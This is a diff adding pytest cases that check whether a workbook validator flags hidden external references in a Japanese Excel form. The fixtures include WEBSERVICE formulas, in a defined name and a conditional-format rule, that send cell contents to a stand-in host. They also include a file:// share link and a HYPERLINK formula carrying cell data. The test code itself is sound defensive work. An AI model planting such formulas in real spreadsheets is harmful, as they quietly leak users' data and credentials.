@@ -231,6 +231,49 @@ class TestChecking:
         assert own.check(path).lost == ("グラフ",)
 
 
+def _named(book: Workbook) -> None:
+    book.defined_names["X"] = DefinedName("X", attr_text='_xlfn.WEBSERVICE("https://example.jp/?"&様式!$B$4)')
+
+
+def _conditioned(book: Workbook) -> None:
+    rule = FormulaRule(formula=['LEN(WEBSERVICE("https://example.jp/?"&B4))>0'], fill=PatternFill())
+    book["様式"].conditional_formatting.add("B4", rule)
+
+
+def _chosen(book: Workbook) -> None:
+    choice = DataValidation(type="list", formula1="='[other.xlsx]表'!$A$1:$A$3")
+    choice.add("C4")
+    book["様式"].add_data_validation(choice)
+
+
+def _linked(book: Workbook) -> None:
+    book["様式"]["A7"].value = "資料"
+    book["様式"]["A7"].hyperlink = "file://192.0.2.1/share/a.xlsx"
+
+
+def _leading(book: Workbook) -> None:
+    book["様式"]["A7"].value = '=HYPERLINK("https://example.jp/?"&B4,"詳細")'
+
+
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [
+        (_named, "名前「X」：ほかのファイルや外部を読む式"),
+        (_conditioned, "条件付き書式：ほかのファイルや外部を読む式"),
+        (_chosen, "入力規則：ほかのファイルや外部を読む式"),
+        (_linked, "A7：ファイルや共有フォルダーへのリンク"),
+        (_leading, "A7：ほかのファイルや外部を読む式"),
+    ],
+)
+def test_nothing_reaches_out_of_the_form_from_where_no_cell_shows_it(
+    change: Callable[[Workbook], None], words: str, tmp_path: Path
+) -> None:
+    book = form()
+    change(book)
+    (message,) = told(kept(book, tmp_path / "form.xlsx"))
+    assert words in message
+
+
 def test_pictures_stay_and_go_down_with_what_is_below(tmp_path: Path) -> None:
     seal = io.BytesIO()
     Picture.new("RGB", (8, 8), "red").save(seal, "PNG")
